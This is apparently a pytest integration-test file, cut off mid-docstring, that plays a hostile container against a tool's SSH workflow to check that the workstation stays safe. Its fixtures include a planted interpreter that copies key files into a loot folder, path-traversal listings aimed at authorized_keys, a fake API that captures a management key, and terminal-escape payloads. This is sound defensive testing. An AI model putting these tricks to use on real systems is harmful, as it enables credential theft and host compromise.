"""The container is not trusted (issue 18): every test here plays a hostile container on
real sshd and asserts what the workstation must still guarantee.

The attacker is the container's own login user (a compromised image, a shared box), or a
second local user on the same box. Its tools: a planted `<remote_dir>/venv/bin/python`
(the session runs it whenever it looks like the venv handoff made) that forges the
remote modules' answers; edited `<key_path>.minted.json` records and `status.json` files;
terminal escapes in every string it controls; symlinks; giant answers; a second fake
management API on 127.0.0.1 that counts the requests carrying the management key.

Asserted outcomes, never mechanisms: nothing written outside `--dest`; zero requests
carrying the management key to any URL but the configured one; no live child key after
a cleanup reported clean; no limit raised; no raw ESC byte from remote content in any
output (terminal or pipe; `--json` keeps it JSON-escaped); other hosts' rows intact; no
traceback; a non-zero exit wherever something was refused; RSS bounded.

One test per finding of the issue (the number in each test's docstring).
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import pty
import pwd
import select
import shutil
import signal
import stat
import subprocess
import tempfile
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml

from handoff.host import remote_code
from tests.integration.conftest import (
    ALL_RESULTS,
    FAB,
    REPO,
    FabResult,
    artifacts,
    clean_env,
    explain,
    find_key,
    key_file,
    remote_dir,
    run_as,
)

ESC = "\x1b"
# What a hostile string carries: an OSC 52 clipboard write, a screen clear, a window
# title, a hyperlink, a NUL.
PAYLOAD = (f"{ESC}]52;c;SGFja2Vk\a{ESC}[2J{ESC}]0;owned\a{ESC}]8;;http://127.0.0.1:9/\alink"
           f"{ESC}]8;;\a\x00end")
VENV_MARK = ".handoff-venv"  # what handoff's `verify --install` leaves in the venv it made
LIMIT = 5.0


# -- the attacker's tools -------------------------------------------------------------------------

FORGING_PYTHON = r'''#!{real}
"""A hostile container's venv python: forwards to the real one, except for the remote
modules a test forges (their answer is whatever ~/.forge/<module>.py prints)."""
import hashlib, os, subprocess, sys
REAL = {real!r}
MODULES = {modules!r}
FORGE = os.path.expanduser("~/.forge")
if len(sys.argv) >= 4 and sys.argv[1] == "-c":
    name = MODULES.get(hashlib.sha256(sys.argv[2].encode()).hexdigest())
    script = os.path.join(FORGE, f"{{name}}.py")
    if name and os.path.isfile(script):
        args = eval(sys.argv[3], {{"__builtins__": {{}}}})
        def real():
            import json
            out = subprocess.run([REAL, *sys.argv[1:]], capture_output=True, text=True).stdout
            return json.loads(out.strip().splitlines()[-1])
        exec(open(script).read(), {{"args": args, "real": real, "sys": sys, "os": os}})
        sys.exit(0)
os.execv(REAL, [REAL, *sys.argv[1:]])
'''


def plant_python(container: Any, forges: dict[str, str], root: Path | None = None) -> Path:
    """The login user plants `venv/bin/python` (and what makes it look like handoff's own
    venv) under its remote_dir, and the forging scripts under ~/.forge/."""
    modules = {hashlib.sha256(remote_code.source(n).encode()).hexdigest(): n
               for n in (remote_code.PROBE, remote_code.JOBS, remote_code.FETCH_LIST)}
    rd = root or remote_dir(container)
    run_as(container, "mkdir", "-p", str(rd / "venv" / "bin"), str(Path(container.home) / ".forge"))
    python = rd / "venv" / "bin" / "python"
    write_as(container, python, FORGING_PYTHON.format(real=container.python, modules=modules), 0o755)
    write_as(container, rd / "venv" / VENV_MARK, "", 0o644)
    write_as(container, rd / "venv" / "pyvenv.cfg", f"home = {Path(container.python).parent}\n", 0o644)
    for name, code in forges.items():
        write_as(container, Path(container.home) / ".forge" / f"{name}.py", code, 0o644)
    return python


def write_as(container: Any, path: Path, text: str | bytes, mode: int = 0o644) -> None:
    """Write a file on the container as its user (root writes it, then hands it over)."""
    data = text.encode() if isinstance(text, str) else text
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    path.chmod(mode)
    user = pwd.getpwnam(container.user)
    os.chown(path, user.pw_uid, user.pw_gid)
    for parent in path.parents:
        if parent == Path(container.home) or Path(container.home) not in parent.parents:
            break
        os.chown(parent, user.pw_uid, user.pw_gid)


def job_dir(container: Any, job: str) -> Path:
    return remote_dir(container) / "jobs" / job


def record_path(container: Any) -> Path:
    return key_file(container).parent / "openrouter.key.minted.json"


class EvilAPI:
    """A second management API on 127.0.0.1, as a container would name it in a record:
    it says every key is live, accepts every change and "confirms" every deletion. It
    counts the requests that carry the management key."""

    def __init__(self, management_key: str | None) -> None:
        self.management_key = management_key
        self.requests: list[tuple[str, str, bool]] = []  # (method, path, carried the key)
        self.deleted: set[str] = set()
        evil = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *_args: Any) -> None:
                pass

            def _answer(self) -> None:
                auth = self.headers.get("Authorization") or ""
                carried = bool(evil.management_key) and evil.management_key in auth
                evil.requests.append((self.command, self.path, carried))
                length = int(self.headers.get("Content-Length") or 0)
                if length:
                    self.rfile.read(length)
                key_hash = self.path.split("?")[0].rstrip("/").rsplit("/", 1)[-1]
                if self.command == "DELETE":
                    evil.deleted.add(key_hash)
                    self._send(200, {"deleted": True})
                elif self.path.startswith("/api/v1/keys?") or self.path.rstrip("/") == "/api/v1/keys":
                    self._send(200, {"data": []})
                elif key_hash in evil.deleted:
                    self._send(404, {"error": {"message": "gone"}})
                else:
                    self._send(200, {"data": {
                        "hash": key_hash, "name": "handoff forged", "limit": 1000.0,
                        "limit_remaining": 1000.0, "usage": 0.0, "disabled": False,
                        "expires_at": "2099-01-01T00:00:00Z"}})

            def _send(self, status: int, body: Any) -> None:
                raw = json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(raw)))
                self.end_headers()
                self.wfile.write(raw)

            do_GET = do_POST = do_PATCH = do_DELETE = _answer

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/api/v1"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> EvilAPI:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    @property
    def with_key(self) -> list[tuple[str, str, bool]]:
        return [r for r in self.requests if r[2]]


class ConnectRecorder:
    """An HTTPS proxy on 127.0.0.1 that only records the CONNECTs it is asked for (and
    refuses them): with HTTPS_PROXY pointing here, any attempt to reach a public API such
    as the built-in OpenRouter URL shows up here instead of leaving the machine."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *_args: Any) -> None:
                pass

            def do_CONNECT(self) -> None:
                recorder.asked.append(self.path)
                self.send_response(403)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> ConnectRecorder:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


# -- running fab as an observer would ---------------------------------------------------------------

def run_fab(env: dict[str, str], *args: str, timeout: float = 120, input_text: str | None = None,
            results: list[FabResult] | None = None) -> FabResult:
    """`fab ARGS` with exactly `env` (for the keyring tests, which must drop the sandbox's
    own D-Bus or file-keyring settings)."""
    proc = subprocess.run([str(FAB), *args], cwd=REPO, env=env, input=input_text,
                          capture_output=True, text=True, timeout=timeout, check=False)
    result = FabResult(proc.returncode, proc.stdout, proc.stderr)
    ALL_RESULTS.append(result)
    if results is not None:
        results.append(result)
    return result


def fab_tty(sbx: Any, *args: str, timeout: float = 120) -> bytes:
    """`fab ARGS` on a pseudo-terminal (TERM=dumb: rich itself writes no escape sequence),
    all it wrote as raw bytes."""
    master, slave = pty.openpty()
    proc = subprocess.Popen([str(FAB), *args], cwd=REPO, env=clean_env(sbx), stdin=slave,
                            stdout=slave, stderr=slave, close_fds=True)
    os.close(slave)
    out = bytearray()
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(master, 65536)
                except OSError:  # EIO: the child closed its side
                    break
                if not chunk:
                    break
                out += chunk
            elif proc.poll() is not None:
                break
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()
        proc.wait(10)
    ALL_RESULTS.append(FabResult(proc.returncode, out.decode(errors="replace"), ""))
    return bytes(out)


def fab_rss(sbx: Any, *args: str, timeout: float = 180, interrupt_when: str | None = None,
            interrupt_after_s: float = 20.0) -> tuple[FabResult, int]:
    """(result, peak RSS in MB) of one `fab ARGS`, as GNU time reports it for that very
    process. (Not os.wait4 on a child of this test process: Linux keeps a forked child's
    pre-exec high-water mark, so that would count this pytest's own RSS.) With
    `interrupt_when`, Ctrl-C goes to fab once the output holds that text (or after
    `interrupt_after_s`), as a user ends `--follow`."""
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err, \
            tempfile.NamedTemporaryFile("r") as measured:
        proc = subprocess.Popen(["/usr/bin/time", "-f", "%M", "-o", measured.name, str(FAB), *args],
                                cwd=REPO, env=clean_env(sbx), stdin=subprocess.DEVNULL,
                                stdout=out, stderr=err)
        started = time.monotonic()
        interrupted = False
        while proc.poll() is None:
            elapsed = time.monotonic() - started
            if interrupt_when is not None and not interrupted:
                out.seek(0)
                if interrupt_when.encode() in out.read() or elapsed > interrupt_after_s:
                    time.sleep(0.5)
                    for child in _children(proc.pid):  # fab itself: time ignores SIGINT
                        os.kill(child, signal.SIGINT)
                    interrupted = True
            if elapsed > timeout:
                proc.kill()
            time.sleep(0.1)
        out.seek(0)
        err.seek(0)
        result = FabResult(proc.returncode, out.read().decode(errors="replace"),
                           err.read().decode(errors="replace"))
        peak_kb = int(measured.read().strip().splitlines()[-1])
    ALL_RESULTS.append(result)
    return result, peak_kb // 1024


def _children(pid: int) -> list[int]:
    found = []
    for task in Path(f"/proc/{pid}/task").glob("*"):
        with contextlib.suppress(OSError, ValueError):
            found += [int(x) for x in (task / "children").read_text().split()]
    return found


def set_host_vars(sbx: Any, name: str, **values: Any) -> None:
    data = yaml.safe_load(sbx.inventory.read_text())
    data["hosts"][name].setdefault("vars", {}).update(values)
    sbx.inventory.write_text(yaml.safe_dump(data, sort_keys=False))


def prompts(path: Path, n: int) -> Path:
    with path.open("w") as fh:
        for i in range(n):
            fh.write(json.dumps({"id": f"p{i}", "messages": [
                {"role": "user", "content": f"Say something about {i}."}]}) + "\n")
    return path


def snapshot(root: Path, but: Path) -> dict[str, tuple[bytes, int]]:
    """Every file under `root` outside `but`, with its bytes and mode."""
    found = {}
    for p in sorted(root.rglob("*")):
        if but == p or but in p.parents or p.is_dir():
            continue
        found[str(p)] = (p.read_bytes() if p.is_file() and not p.is_symlink() else b"<link>",
                         p.lstat().st_mode)
    return found


def no_traceback(*results: FabResult) -> None:
    for res in results:
        assert "Traceback (most recent call last)" not in res.text, explain(res)


@contextlib.contextmanager
def other_user(tmp: Path) -> Iterator[pwd.struct_passwd]:
    """A second local unix user on the container's box (another tenant), removed after."""
    from handoff.testing.sandbox import _system

    name = _system.sandbox_user_name(9000 + os.getpid() % 1000 + int(time.time() * 1000) % 997)
    home = tmp / name
    user = _system.create_user(name, home)
    try:
        yield user
    finally:
        _system.delete_user(name)


def as_user(user: pwd.struct_passwd, *argv: str) -> None:
    subprocess.run(["runuser", "-u", user.pw_name, "--", *argv], check=True, timeout=60,
                   capture_output=True, cwd="/")


def owned_dirs(user: pwd.struct_passwd, *folders: Path, mode: int = 0o755) -> None:
    """Folders (and their missing parents below the shared dir) that `user` owns."""
    for folder in folders:
        folder.mkdir(parents=True, exist_ok=True)
        for p in (folder, *folder.parents):
            if p.name.startswith("hsbx-shared-"):
                break
            os.chown(p, user.pw_uid, user.pw_gid)
            p.chmod(mode)


def shared_dir() -> Path:
    """A folder every local user can reach, for the shared-box attacks."""
    base = Path(tempfile.mkdtemp(prefix="hsbx-shared-"))
    base.chmod(0o755)
    return base


# -- 1. fetch writes only under --dest --------------------------------------------------------------

FORGED_LISTING = r'''
import json, os, time
jobs_dir = os.path.expanduser(args["jobs_dir"]) if args["jobs_dir"].startswith("~") else args["jobs_dir"]
victim = VICTIM
def offer(job_dir, rel, content):
    """Make the remote path the workstation will read exist, with the attacker's bytes."""
    path = os.path.normpath(job_dir + "/" + rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as fh:
        fh.write(content)
    return {"rel": rel, "size": len(content), "mtime": time.time()}
good = os.path.join(jobs_dir, "good")
os.makedirs(good, exist_ok=True)
row = '{"id": "a", "output": "fine"}\n'
evil = os.path.join(jobs_dir, "evil")
listing = {"jobs_dir": jobs_dir, "jobs": {
    "good": {"job_dir": good, "exists": True, "files": [offer(good, "output.jsonl", row)]},
    "evil": {"job_dir": evil, "exists": True, "files": [
        offer(evil, victim, "ssh-ed25519 AAAA attacker\n"),
        offer(evil, "../../../pwned-by-rel", "pwned\n")]},
    "../../escaped-job": {"job_dir": good, "exists": True,
                          "files": [offer(good, "output.jsonl", row)]},
}}
print(json.dumps(listing))
'''


def test_fetch_writes_nothing_outside_dest_whatever_the_listing_says(
        make_sandbox, fab, tmp_path: Path) -> None:
    """Finding 1: absolute and `..` paths, and a job named `../../x`, from a forged listing."""
    sbx = make_sandbox(hosts=1, api=False)
    c = sbx.container("sbx-1")
    victim = tmp_path / "victim" / "authorized_keys"
    victim.parent.mkdir()
    victim.write_text("ssh-ed25519 AAAA the-user's-own-key\n")
    victim.chmod(0o600)
    dest = tmp_path / "a" / "b" / "dest"
    plant_python(c, {"fetch_list": FORGED_LISTING.replace("VICTIM", repr(str(victim)))})
    before = snapshot(tmp_path, dest)

    result = fab.on(sbx, "fetch", "--dest", str(dest))

    assert snapshot(tmp_path, dest) == before, "fetch wrote outside --dest"
    assert victim.read_text() == "ssh-ed25519 AAAA the-user's-own-key\n"
    assert stat.S_IMODE(victim.stat().st_mode) == 0o600
    assert result.rc != 0, explain(result)
    text = " ".join(result.text.split())
    assert "escaped-job" in text and "pwned-by-rel" in text and str(victim) in text, explain(result)
    assert "refused" in text.lower(), explain(result)
    # What is not hostile still arrives.
    assert (dest / "sbx-1" / "good" / "output.jsonl").read_text().startswith('{"id": "a"')
    for p in dest.rglob("*"):
        assert p.resolve() == dest.resolve() or dest.resolve() in p.resolve().parents
    no_traceback(result)


LYING_SIZE = r"""
# The real listing, with the size of every output.jsonl changed by DELTA (its prefix hash
# left true: the lie is only about how long the file is).
answer = real()
for job in answer.get("jobs", {}).values():
    for entry in job.get("files", []):
        if entry["rel"] == "output.jsonl":
            entry["size"] += DELTA
print(json.dumps(answer))
"""


@pytest.mark.parametrize("delta", [5_000_000, -9_000_000])
def test_a_host_lying_about_a_resumed_files_size(make_sandbox, fab, tmp_path: Path,
                                                  delta: int) -> None:
    """A cut fetch's part of 8 MB, then a host that says its 16 MB file is bigger: the
    download ends early, fetch fails saying to run it again, and no final file appears; a
    host that says the file is smaller than the part: the part is not resumed (said), the
    file is what the host serves of the size it claims, nothing is written outside --dest."""
    sbx = make_sandbox(hosts=1, api=False)
    c = sbx.container("sbx-1")
    line = b'{"id":"%08d","text":"' + b"x" * 100 + b'"}\n'
    data = b"".join(line % i for i in range(16_000_000 // len(line % 0)))
    write_as(c, job_dir(c, "generator") / "output.jsonl", data, 0o600)
    plant_python(c, {"fetch_list": "import json\n" + LYING_SIZE.replace("DELTA", str(delta))})
    dest = tmp_path / "dest"
    folder = dest / "sbx-1" / "generator"
    folder.mkdir(parents=True)
    part = folder / ".output.jsonl.tmp-part"
    part.write_bytes(data[:8_000_000])
    before = snapshot(tmp_path, dest)

    result = fab.on(sbx, "fetch", "--dest", str(dest))

    assert snapshot(tmp_path, dest) == before, "fetch wrote outside --dest"
    text = " ".join(result.text.split())
    if delta > 0:
        assert result.rc != 0 and "run fetch again" in text, explain(result)
        assert not (folder / "output.jsonl").exists(), "a file the host could not serve whole"
        assert part.read_bytes() == data  # what the host really had, kept for the next try
    else:
        assert "not resumed" in text and "shorter" in text, explain(result)
        served = data[:len(data) + delta]  # copied by whole lines: its cut last line waits
        assert (folder / "output.jsonl").read_bytes() == served[:served.rindex(b"\n") + 1]
    no_traceback(result)


# -- 2. the management key talks only to the configured URL ------------------------------------------

def minted(make_sandbox: Any, hosts: int, **kwargs: Any) -> Any:
    return make_sandbox(hosts=hosts, management=True, key_limit=LIMIT, **kwargs)


def poison_record(container: Any, **fields: Any) -> dict[str, Any]:
    path = record_path(container)
    rec = json.loads(path.read_text()) if path.exists() else {
        "hash": "f" * 64, "name": "handoff forged", "fingerprint": "", "expires_at": None,
        "limit": None, "minted": 0.0, "service": "openrouter"}
    rec.update(fields)
    write_as(container, path, json.dumps(rec), 0o600)
    return rec


def test_the_management_key_goes_only_to_the_inventory_base_url(
        make_sandbox, fab, tmp_path: Path) -> None:
    """Finding 2: a record's `api` (on a minted host, and planted on a plain one) is never
    where the management key goes: status, push-key, deploy, launch --max-cost, cleanup."""
    sbx = minted(make_sandbox, 2)
    set_host_vars(sbx, "sbx-2", key_mode="plain")
    deploy = fab.on(sbx, "deploy")
    assert deploy.rc == 0, explain(deploy)
    with EvilAPI(sbx.management_key) as evil:
        poison_record(sbx.container("sbx-1"), api=evil.url, service="stolen-service")
        poison_record(sbx.container("sbx-2"), api=evil.url)
        runs = [fab.on(sbx, "status"), fab.on(sbx, "status", "--json"),
                fab.on(sbx, "push-key"), fab.on(sbx, "deploy")]
        poison_record(sbx.container("sbx-1"), api=evil.url)
        runs.append(fab.on(sbx, "launch", "--host", "sbx-1", "--input",
                           str(prompts(tmp_path / "p.jsonl", 3)), "--max-cost", "1"))
        poison_record(sbx.container("sbx-1"), api=evil.url)
        cleanup = fab.on(sbx, "cleanup-secrets")
        runs.append(cleanup)
        assert evil.with_key == [], f"the management key went to the host's URL: {evil.with_key}"
    assert "stolen-service" not in " ".join(r.text for r in runs)
    if cleanup.rc == 0:
        assert sbx.api.keys.live() == [], explain(cleanup)
    ledger = (sbx.state_dir / "ledger.jsonl").read_text()
    assert evil.url not in ledger, "a host's URL was copied into the ledger"
    assert find_key(sbx.management_key, artifacts(sbx, fab.results)) == []
    no_traceback(*runs)


# -- 3. a cleanup reported clean leaves no live child key --------------------------------------------

def test_cleanup_never_reports_a_key_revoked_that_still_lives(make_sandbox, fab) -> None:
    """Finding 3: the record points at an API that "confirms" every deletion; the state dir
    is gone, so the record is all that names the key."""
    sbx = minted(make_sandbox, 1)
    deploy = fab.on(sbx, "deploy")
    assert deploy.rc == 0, explain(deploy)
    assert len(sbx.api.keys.live()) == 1
    shutil.rmtree(sbx.state_dir)
    with EvilAPI(sbx.management_key) as evil:
        poison_record(sbx.container("sbx-1"), api=evil.url)
        cleanup = fab.on(sbx, "cleanup-secrets")
        assert evil.with_key == [], evil.with_key
    live = sbx.api.keys.live()
    assert cleanup.rc != 0 or live == [], f"reported clean, but {len(live)} child key(s) live\n" \
                                          + explain(cleanup)
    assert live == [], explain(cleanup)
    no_traceback(cleanup)


# -- 4. the host cannot raise its own cap -----------------------------------------------------------

def test_a_negative_cost_in_status_json_raises_no_limit(make_sandbox, fab, tmp_path: Path) -> None:
    """Finding 4: `"cost": -1000` in the job's status.json before `launch --max-cost 1`."""
    sbx = minted(make_sandbox, 1)
    deploy = fab.on(sbx, "deploy")
    assert deploy.rc == 0, explain(deploy)
    c = sbx.container("sbx-1")
    write_as(c, job_dir(c, "p") / "status.json",
             json.dumps({"state": "stopped", "cost": -1000, "done": 0, "total": 3}), 0o644)
    launch = fab.on(sbx, "launch", "--input", str(prompts(tmp_path / "p.jsonl", 3)),
                    "--max-cost", "1")
    # The job runs on a key of its own (issue 32), limited to its share, never more; the
    # host's key keeps its key_limit (a budget never changes it).
    own = [k.limit for k in sbx.api.keys.live() if k.name.endswith(":p")]
    assert own and all(limit is not None and limit <= 1.0 + 1e-9 for limit in own), \
        f"child key limit raised to {own}\n" + explain(launch)
    no_traceback(launch)


# -- 5. a shared remote_dir ---------------------------------------------------------------------------

STEALING_PYTHON = r'''#!{real}
import glob, os, shutil, sys
for path in glob.glob({secrets!r} + "/*"):
    try:
        shutil.copy(path, {loot!r} + "/" + os.path.basename(path) + ".%d" % os.getpid())
    except OSError:
        pass
os.execv({real!r}, [{real!r}, *sys.argv[1:]])
'''


def test_a_remote_dir_another_user_prepared_is_refused(make_sandbox, fab, tmp_path: Path) -> None:
    """Finding 5: another local user pre-creates a world-writable remote_dir holding a
    `venv/bin/python` that copies key files."""
    sbx = make_sandbox(hosts=1)
    c = sbx.container("sbx-1")
    shared = shared_dir()
    try:
        with other_user(tmp_path) as mallory:
            rd, loot = shared / "handoff", shared / "loot"
            owned_dirs(mallory, rd / "venv" / "bin", loot)
            as_user(mallory, "chmod", "0777", str(rd), str(loot))
            evil = rd / "venv" / "bin" / "python"
            evil.write_text(STEALING_PYTHON.format(real=c.python, secrets=str(rd / "secrets"),
                                                   loot=str(loot)))
            (rd / "venv" / VENV_MARK).write_text("")
            for p in (evil, rd / "venv" / VENV_MARK):
                os.chown(p, mallory.pw_uid, mallory.pw_gid)
            evil.chmod(0o755)
            set_host_vars(sbx, "sbx-1", remote_dir=str(rd))

            deploy = fab.on(sbx, "deploy")
            after = fab.on(sbx, "status")
            stolen = {str(p): p.read_bytes() for p in loot.iterdir() if p.is_file()}
            assert find_key(sbx.api_key, stolen) == [], "another user read the placed key"
            assert not (rd / "secrets" / "openrouter.key").exists()
            assert deploy.rc != 0, explain(deploy)
            text = " ".join(deploy.text.split())
            assert str(rd) in text and ("writable" in text or "owned by" in text), explain(deploy)
            no_traceback(deploy, after)
    finally:
        shutil.rmtree(shared, ignore_errors=True)


# -- 6. no key in a plaintext keyring without saying so -----------------------------------------------

def headless_env(home: Path, **extra: str) -> dict[str, str]:
    """A headless box: no D-Bus session, no keyring settings, a throwaway XDG home."""
    for sub in (".local/share", ".config", ".cache"):
        (home / sub).mkdir(parents=True, exist_ok=True)
    return {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LANG": "C.UTF-8",
            "LC_ALL": "C.UTF-8", "TERM": "dumb", "NO_COLOR": "1", "HOME": str(home),
            "XDG_DATA_HOME": str(home / ".local/share"), "XDG_CONFIG_HOME": str(home / ".config"),
            "XDG_CACHE_HOME": str(home / ".cache"), "PYTHONDONTWRITEBYTECODE": "1", **extra}


def test_set_key_refuses_a_plaintext_keyring_unless_asked(tmp_path: Path) -> None:
    """Finding 6a: with no D-Bus session, keyring falls back to keyrings.alt's
    PlaintextKeyring; set-key must say so and refuse, unless the user opts in."""
    home = tmp_path / "home"
    key = "sk-or-v1-" + "ab" * 32
    env = headless_env(home)
    refused = run_fab(env, "set-key", input_text=key + "\n")
    needles = (key.encode(), base64.b64encode(key.encode()))
    stored = [p for p in home.rglob("*") if p.is_file() and any(n in p.read_bytes() for n in needles)]
    assert refused.rc != 0, explain(refused)
    assert stored == [], f"the key was written in plaintext to {stored}"
    text = " ".join(refused.text.split())
    assert "PlaintextKeyring" in text and "HANDOFF_ALLOW_PLAINTEXT_KEYRING" in text, explain(refused)
    assert "Secret Service" in text or "D-Bus" in text, explain(refused)
    assert "stored key" not in text, explain(refused)

    allowed = run_fab({**env, "HANDOFF_ALLOW_PLAINTEXT_KEYRING": "1"}, "set-key",
                      input_text=key + "\n")
    assert allowed.rc == 0, explain(allowed)
    assert "plaintext" in allowed.text.lower() and "OS keyring" not in allowed.text, explain(allowed)
    no_traceback(refused, allowed)


def test_push_key_says_the_keyring_is_unreachable_not_that_no_key_is_stored(
        make_sandbox, tmp_path: Path) -> None:
    """Finding 6b: the key is in the Secret Service, but this shell has no D-Bus session."""
    sbx = make_sandbox(hosts=1, api=False, keyring="secretservice")
    env = {k: v for k, v in clean_env(sbx).items() if k != "DBUS_SESSION_BUS_ADDRESS"}
    result = run_fab(env, "push-key")
    assert result.rc != 0, explain(result)
    text = " ".join(result.text.split())
    assert "no API key in the OS keyring" not in text, explain(result)
    assert "PlaintextKeyring" in text and ("D-Bus" in text or "Secret Service" in text), \
        explain(result)
    assert not key_file(sbx.container("sbx-1")).exists()
    no_traceback(result)


# -- 7. trust-host --yes never replaces a changed key ---------------------------------------------------

def test_trust_host_yes_never_replaces_a_changed_key(make_sandbox, fab) -> None:
    """Finding 7: a script that always passes --yes must not accept a man in the middle."""
    sbx = make_sandbox(hosts=1, api=False)
    old = sbx.container("sbx-1").host_key_fingerprint
    sbx.rotate_host_key("sbx-1")
    new = sbx.container("sbx-1").host_key_fingerprint
    pins = sbx.state_dir / "known_hosts"

    yes = fab.on(sbx, "trust-host", "--host", "sbx-1", "--yes")
    assert yes.rc != 0, explain(yes)
    assert not pins.exists() or new.split(":", 1)[1] not in pins.read_text()
    assert "--replace" in yes.text, explain(yes)
    refused = fab.on(sbx, "deploy", "--host", "sbx-1")
    assert refused.rc != 0, explain(refused)

    replaced = fab.on(sbx, "trust-host", "--host", "sbx-1", "--replace")
    assert replaced.rc == 0, explain(replaced)
    assert old in replaced.text and new in replaced.text, explain(replaced)
    deploy = fab.on(sbx, "deploy", "--host", "sbx-1")
    assert deploy.rc == 0, explain(deploy)
    no_traceback(yes, refused, replaced, deploy)


# -- 8. no terminal escape from remote content reaches an output ----------------------------------------

FAILING_STDERR = r'''
sys.stderr.write(PAYLOAD + "\n")
sys.exit(1)
'''


def escape_host(c: Any) -> str:
    """Job folder name, status.json, log and file names holding escapes; returns the job."""
    job = f"job{ESC}[2Jx{ESC}]0;t\a"
    folder = job_dir(c, job)
    write_as(c, folder / "status.json", json.dumps(
        {"state": "stopped", "stop_reason": f"why{ESC}[31m", "last_error": PAYLOAD, "done": 1,
         "failed": 0, "total": 2, "cost": 0.0}), 0o600)
    write_as(c, folder / "log", f"line one\nline {PAYLOAD} two\n", 0o600)
    write_as(c, folder / f"out{ESC}]52;c;eA==\a.jsonl", '{"id": "x"}\n', 0o600)
    return job


def test_no_raw_escape_from_a_host_reaches_any_output(make_sandbox, fab, tmp_path: Path) -> None:
    """Finding 8: ESC/OSC/NUL in last_error, log lines, job folder names, file names and
    remote stderr: status (pipe, terminal, --json), logs, logs --follow, fetch, failures."""
    sbx = make_sandbox(hosts=2, api=False)
    one, two = sbx.container("sbx-1"), sbx.container("sbx-2")
    escape_host(one)
    plant_python(two, {"jobs": FAILING_STDERR.replace("PAYLOAD", repr(PAYLOAD)),
                       "fetch_list": FAILING_STDERR.replace("PAYLOAD", repr(PAYLOAD))})
    runs = [fab.on(sbx, "status"), fab.on(sbx, "logs"), fab.on(sbx, "logs", "--host", "sbx-1"),
            fab.on(sbx, "fetch", "--dest", str(tmp_path / "dest")),
            fab.on(sbx, "stop"), fab.on(sbx, "status", "--wait")]
    as_json = fab.on(sbx, "status", "--json")
    follow = fab.popen(sbx, "logs", "--follow", "--host", "sbx-1")
    time.sleep(6)
    follow.send_signal(signal.SIGINT)
    out, err = follow.communicate(timeout=30)
    runs.append(FabResult(follow.returncode, out, err))
    tty = fab_tty(sbx, "status")

    for res in [*runs, as_json]:
        assert ESC not in res.text and "\x00" not in res.text, explain(res)
    assert ESC.encode() not in tty and b"\x00" not in tty, tty[-2000:]
    assert "\\x1b" in runs[0].text and b"\\x1b" in tty, explain(runs[0])
    assert "\\x1b" in runs[1].text and "\\x1b" in runs[-1].text, explain(runs[-1])
    # JSON keeps the strings as they are, escaped by JSON itself.
    assert "\\u001b" in as_json.out, explain(as_json)
    records = [json.loads(line) for line in as_json.out.splitlines() if line.startswith("{")]
    assert any(r.get("last_error") == PAYLOAD for r in records), records
    # sbx-2 failed with the escapes in its stderr: a row of its own, shown visibly.
    assert "sbx-2" in runs[0].text and "sbx-1" in runs[0].text
    no_traceback(*runs, as_json)


# -- 9. one host's wrong types are its own error, never every host's loss ------------------------------

def test_wrong_types_in_status_json_are_that_hosts_row(make_sandbox, fab) -> None:
    """Finding 9: strings for numbers, Infinity, a number for a list."""
    sbx = make_sandbox(hosts=2, api=False)
    bad, good = sbx.container("sbx-1"), sbx.container("sbx-2")
    write_as(bad, job_dir(bad, "strings") / "status.json", json.dumps(
        {"state": "running", "total": "x", "rate_rps": "fast", "done": "5", "failed": [],
         "bad_lines": 3, "bad_line_samples": 5, "tokens_per_s": "many", "cost": "free"}), 0o600)
    write_as(bad, job_dir(bad, "infinite") / "status.json",
             '{"state": "finished", "total": Infinity, "done": -Infinity, "cost": NaN, '
             '"rate_rps": Infinity, "bad_lines": "many", "bad_line_samples": [1, "x", {}]}', 0o600)
    write_as(bad, job_dir(bad, "notadict") / "status.json", '[1, 2, 3]', 0o600)
    write_as(good, job_dir(good, "fine") / "status.json", json.dumps(
        {"state": "finished", "total": 4, "done": 4, "failed": 0, "cost": 0.5, "exit_code": 0}),
        0o600)
    runs = [fab.on(sbx, "status"), fab.on(sbx, "status", "--json"),
            fab.on(sbx, "status", "--wait"), fab.on(sbx, "status", "--job", "strings")]
    no_traceback(*runs)
    table = " ".join(runs[0].text.split())
    assert "fine" in table and "4/0/4" in table, explain(runs[0])
    assert "strings" in table and "infinite" in table, explain(runs[0])
    records = [json.loads(line) for line in runs[1].out.splitlines() if line.startswith("{")]
    assert {r["job"] for r in records if r["host"] == "sbx-2"} == {"fine"}, records
    assert {r["job"] for r in records if r["host"] == "sbx-1"} >= {"strings", "infinite"}, records
    for res in runs:
        assert "Infinity" not in res.out and "NaN" not in res.out, explain(res)
    assert runs[2].rc != 0  # not every job ran or finished cleanly


# -- 10. bounded answers ----------------------------------------------------------------------------------

GIANT_ANSWER = r'''
chunk = "x" * (1 << 20)
sys.stdout.write('{"jobs_dir": "' )
for _ in range(300):
    sys.stdout.write(chunk)
sys.stdout.write('", "jobs": {}}\n')
sys.stdout.flush()
'''


def test_a_300_mb_answer_keeps_status_small(make_sandbox, fab) -> None:
    """Finding 10a: a remote module answers 300 MB: refused at a few MB, said so; the other
